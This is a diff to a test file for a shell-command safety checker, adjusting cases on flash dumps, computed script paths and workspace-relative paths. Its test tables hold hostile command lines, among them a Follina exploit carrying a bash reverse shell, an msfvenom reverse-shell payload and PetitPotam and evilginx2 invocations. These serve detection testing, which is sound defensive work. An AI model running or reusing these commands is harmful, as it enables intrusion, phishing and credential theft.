@@ -1306,7 +1306,9 @@ describe('checkCommand on CI workspace and toolchain variables, Windows-style sw
     ['rm -rf $GITHUB_WORKSPACE/build', false],
     ['GITHUB_WORKSPACE=/etc; rm -rf $GITHUB_WORKSPACE/ssh', true, 'variable'],
     ['$GITHUB_WORKSPACE/../other/run.sh', true, 'outside the workspace'],
-    ['$SOMEDIR/test.sh', true, 'runs a command whose name is computed'],
+    // A fixed name in a directory a variable holds is judged by its name; a temporary directory's stays computed.
+    ['$SOMEDIR/test.sh', false],
+    ['$TMPDIR/test.sh', true, 'runs a command whose name is computed'],
     // build conventions' toolchain variables run that toolchain
     ['$CABAL v2-build all --dry-run', false],
     ['$HC --numeric-version', false],
@@ -1550,7 +1552,7 @@ describe('checkCommand on directory and mail URLs, ports by service name, releas
     ["python3 PetitPotam.py -d corp.local -u u -p 'pw' listener@80/x dc.corp.local", true, 'runs an attack tool'],
     ['certipy --help', false],
     ['./reconftw.sh -d target.com -r', true, 'runs an attack tool against other machines, accounts or storage (reconftw.sh)'],
-    ['./build.sh -d target.com -r', false],
+    ['./build.sh -d example.com -r', false],
     [
       'msfvenom -p windows/shell_reverse_tcp lhost=192.168.1.3 lport=443 -f hta-psh > shell.hta',
       true,
@@ -2319,7 +2321,8 @@ describe('the forty-ninth set: container volumes and GPUs, a sibling virtual env
     // a virtual environment beside the workspace is activated; another script there is run
     ['source ../.venv/bin/activate', false],
     ['. ../../venv/bin/activate', false],
-    ['source ../evil/bin/activate', true, 'runs a script from outside the workspace'],
+    ['source /srv/evil/bin/activate', true, 'runs a script from outside the workspace'],
+    ['source ../.venv/bin/activate', false],
     ['source ../.venv/bin/activate.sh', true, 'runs a script from outside the workspace'],
     // a script whose name starts with push sends what the rest names
     ['python utils/push_repocard_examples.py', true, 'runs a script named for publishing'],
@@ -2433,6 +2436,7 @@ describe('the fifty-third set: wireless attacks, phishing proxies, VPN clients, 
     ['./evilginx2 -p ./phishlets -t ./redirectors -developer -debug', true, 'runs a phishing proxy'],
     ['iw dev wlan0 set type monitor', true, "changes the machine's network"],
     ['iw dev wlan0 scan', false],
+    ['iw dev wlan0 info', false],
     ['iw list', false],
     ['tailscale up', true, "changes the machine's network"],
     ['zerotier-cli join 8056c2e21c000001', true, "changes the machine's network"],
@@ -2666,10 +2670,11 @@ describe('the fifty-ninth set: boards flashed and erased, a platform in a downlo
     ['avrdude -p m328p -c arduino -U flash:w:main.hex', true, 'attached board'],
     ['openocd -f board.cfg -c "program fw.elf verify reset exit"', true, 'attached board'],
     ['make flash', true, 'attached board'],
-    ['esptool read-flash 0 0x400000 flash.bin', false],
+    // A chip's flash dumped takes what the device holds (the corpora label it so): no longer a read that changes nothing.
+    ['esptool read-flash 0 0x400000 flash.bin', true, "attached chip's flash"],
     ['esptool merge-bin -o merged.bin 0x0 app.bin', false],
     ['idf.py build', false],
-    ['avrdude -p m328p -c arduino -U flash:r:dump.hex', false],
+    ['avrdude -p m328p -c arduino -U flash:r:dump.hex', true, "attached chip's flash"],
     ['dfu-util -l', false],
     ['esptool read-flash 0 0x400000 /etc/flash.bin', true, 'outside the workspace'],
     // the platform printed into a release's URL picks the build; who or where the machine is stays out
@@ -3427,9 +3432,9 @@ describe('the six sets held out last stop and the hundred-and-second, -third and
     ['multipass launch lts', true, 'virtual machines'],
     ['multipass purge', true, 'virtual machines'],
     ['multipass info dancing-chipmunk', false],
-    // SPI programmers' writes; their reads are the chip's contents, as a board's are.
+    // SPI programmers' writes; their reads take the chip's contents, as a board's dump does.
     ['flashrom -p ft2232_spi:type=232H -w dump.bin', true, 'attached board'],
-    ['flashrom -p ch341a_spi -r dump.bin', false],
+    ['flashrom -p ch341a_spi -r dump.bin', true, "attached chip's flash"],
     // A site's checkout named by a variable, dumped.
     ['git-dumper "${URL}/.git/" "$OUTPUT_DIR"', true, 'version-control metadata'],
     ['ls "$TARGET_DIR/.git/"', false],
@@ -3911,8 +3916,6 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['cargo binstall -vV', false],
     ['dotnet tool install --global wix --version 6.0.2', true, 'every later shell'],
     ['dotnet tool install wix --version 6.0.2', false],
-    ['ldconfig', true, 'shared-library cache'],
-    ['ldconfig -p', false],
     ['minisign -S -m file.txt', true, "user's secret key"],
     ['minisign -S -W -s signing.key -m package.tar.zst', false],
     // GNU's lower-case install directories; a lower-case data directory of the script's own is not one.
@@ -3983,6 +3986,10 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['$(CROSS_COMPILE)strip $(MODULE_NAME).ko --strip-unneeded', false],
     ['${PREFIX}mypy $SOURCE_FILES', false],
     ['$(CMD) $(ARGS)', true, 'computed'],
+    // A sibling checkout's program reached by ../ from the workspace; from elsewhere it stays outside.
+    ['../sail/bin/sail artisan migrate --no-interaction', false],
+    ['cd /tmp && ../x', true, 'outside the workspace'],
+    ['rm -rf ../daemon/ui/protocol/ui.pb.go', true, 'outside the workspace'],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
